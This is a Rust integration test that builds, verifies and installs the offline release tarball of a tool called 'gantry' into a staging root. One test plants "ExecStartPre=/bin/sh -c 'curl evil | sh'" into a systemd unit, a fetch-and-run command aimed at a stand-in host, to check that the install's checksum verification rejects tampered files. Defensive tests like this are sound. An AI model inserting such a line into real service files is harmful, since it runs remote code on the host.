//! The release tarball and its offline install script, run for real: the
//! tarball is made from this build's binary with `packaging/make-tarball.sh`,
//! unpacked with `tar`, and installed with its `install.sh` into a staging
//! root (`--destdir`), with no network.
//! (`packaging/build.sh` makes the static musl build and checks it with
//! `file` and `ldd`; `.ci/run` runs it.)

mod common;

use common::{repo_path, BINARY};
use std::path::Path;
use std::process::{Command, Output};

fn run(command: &mut Command) -> Output {
    let output = command.output().expect("run");
    assert!(
        output.status.success(),
        "{command:?} failed:\n{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    output
}

fn version() -> String {
    env!("CARGO_PKG_VERSION").to_string()
}

/// This build's binary, stripped of its debug info when `strip` is there
/// (as a release is; it keeps the test from compressing 300 MB).
fn release_like_binary(dir: &Path) -> std::path::PathBuf {
    let stripped = dir.join("gantry");
    match Command::new("strip")
        .arg("-o")
        .arg(&stripped)
        .arg(BINARY)
        .status()
    {
        Ok(status) if status.success() => stripped,
        _ => BINARY.into(),
    }
}

/// Makes the tarball in `dist` and unpacks it in `unpacked`; returns the
/// release directory.
fn make_and_unpack(dist: &Path, unpacked: &Path) -> std::path::PathBuf {
    std::fs::create_dir_all(dist).unwrap();
    let binary = release_like_binary(dist);
    run(Command::new(repo_path("packaging/make-tarball.sh"))
        .arg(&binary)
        .args([&version(), "x86_64"])
        .env("GANTRY_DIST_DIR", dist));
    let name = format!("gantry-{}-x86_64-linux-musl", version());
    let tarball = dist.join(format!("{name}.tar.gz"));
    // The published checksum matches the tarball.
    run(Command::new("sha256sum")
        .args(["-c", &format!("{name}.tar.gz.sha256")])
        .current_dir(dist));
    std::fs::create_dir_all(unpacked).unwrap();
    run(Command::new("tar")
        .arg("xzf")
        .arg(&tarball)
        .current_dir(unpacked));
    unpacked.join(name)
}

#[test]
fn the_tarball_installs_offline_keeps_local_settings_and_refuses_damage() {
    let dir = tempfile::tempdir().unwrap();
    let release = make_and_unpack(&dir.path().join("dist"), &dir.path().join("unpacked"));
    for file in [
        "gantry",
        "install.sh",
        "LICENSE",
        "README.md",
        "Containerfile",
        "SHA256SUMS",
        "systemd/gantry-server.service",
        "systemd/gantry-operator.service",
        "systemd/server.env",
        "systemd/operator.env",
        "ops/runbooks/install-vm.md",
        "ops/grafana/control-plane.json",
        "ops/grafana/alerts.yaml",
        "ops/kubernetes/server.yaml",
    ] {
        assert!(release.join(file).is_file(), "the release lacks {file}");
    }
    let sums = std::fs::read_to_string(release.join("SHA256SUMS")).unwrap();
    assert!(sums.lines().any(|line| line.ends_with("  gantry")));

    let root = dir.path().join("root");
    let output = run(Command::new(release.join("install.sh"))
        .arg("--destdir")
        .arg(&root)
        .env("PATH", "/usr/bin:/bin"));
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(said.contains("installed /usr/local/bin/gantry"), "{said}");

    let installed = root.join("usr/local/bin/gantry");
    let shown = run(Command::new(&installed).arg("--version"));
    let shown = String::from_utf8_lossy(&shown.stdout);
    assert!(
        shown.starts_with(&format!("gantry {} (", version())),
        "{shown}"
    );
    for file in [
        "etc/systemd/system/gantry-server.service",
        "etc/systemd/system/gantry-operator.service",
        "etc/gantry/server.env",
        "etc/gantry/operator.env",
        "usr/local/share/doc/gantry/runbooks/backup-and-restore.md",
        "usr/local/share/doc/gantry/LICENSE",
    ] {
        assert!(root.join(file).is_file(), "not installed: {file}");
    }
    use std::os::unix::fs::PermissionsExt;
    let pki_mode = std::fs::metadata(root.join("etc/gantry/pki"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(pki_mode & 0o777, 0o700);

    // A second install keeps edited settings and puts the new example next to them.
    let env = root.join("etc/gantry/server.env");
    std::fs::write(&env, "GANTRY_LISTEN=192.0.2.7:8470\n").unwrap();
    run(Command::new(release.join("install.sh"))
        .arg("--destdir")
        .arg(&root));
    assert_eq!(
        std::fs::read_to_string(&env).unwrap(),
        "GANTRY_LISTEN=192.0.2.7:8470\n"
    );
    assert!(root.join("etc/gantry/server.env.example").is_file());

    // Another prefix rewrites the units' ExecStart.
    let other = dir.path().join("other");
    run(Command::new(release.join("install.sh"))
        .args(["--prefix", "/opt/gantry", "--destdir"])
        .arg(&other));
    let unit =
        std::fs::read_to_string(other.join("etc/systemd/system/gantry-server.service")).unwrap();
    assert!(
        unit.contains("ExecStart=/opt/gantry/bin/gantry server"),
        "{unit}"
    );
    assert!(other.join("opt/gantry/bin/gantry").is_file());

    damaged_release_installs_nothing(&dir.path().join("dist"), dir.path());
}

/// Unpacks the tarball made by the test above again, damages one file and
/// checks the install refuses before touching anything.
fn damaged_release_installs_nothing(dist: &Path, dir: &Path) {
    let name = format!("gantry-{}-x86_64-linux-musl", version());
    let unpacked = dir.join("damaged");
    std::fs::create_dir_all(&unpacked).unwrap();
    run(Command::new("tar")
        .arg("xzf")
        .arg(dist.join(format!("{name}.tar.gz")))
        .current_dir(&unpacked));
    let release = unpacked.join(name);
    let unit = release.join("systemd/gantry-server.service");
    let mut text = std::fs::read_to_string(&unit).unwrap();
    text.push_str("\nExecStartPre=/bin/sh -c 'curl evil | sh'\n");
    std::fs::write(&unit, text).unwrap();
    let root = dir.join("damaged-root");
    let output = Command::new(release.join("install.sh"))
        .arg("--destdir")
        .arg(&root)
        .output()
        .unwrap();
    assert!(!output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("SHA256SUMS does not match"), "{stderr}");
    assert!(!root.exists(), "something was installed");
}
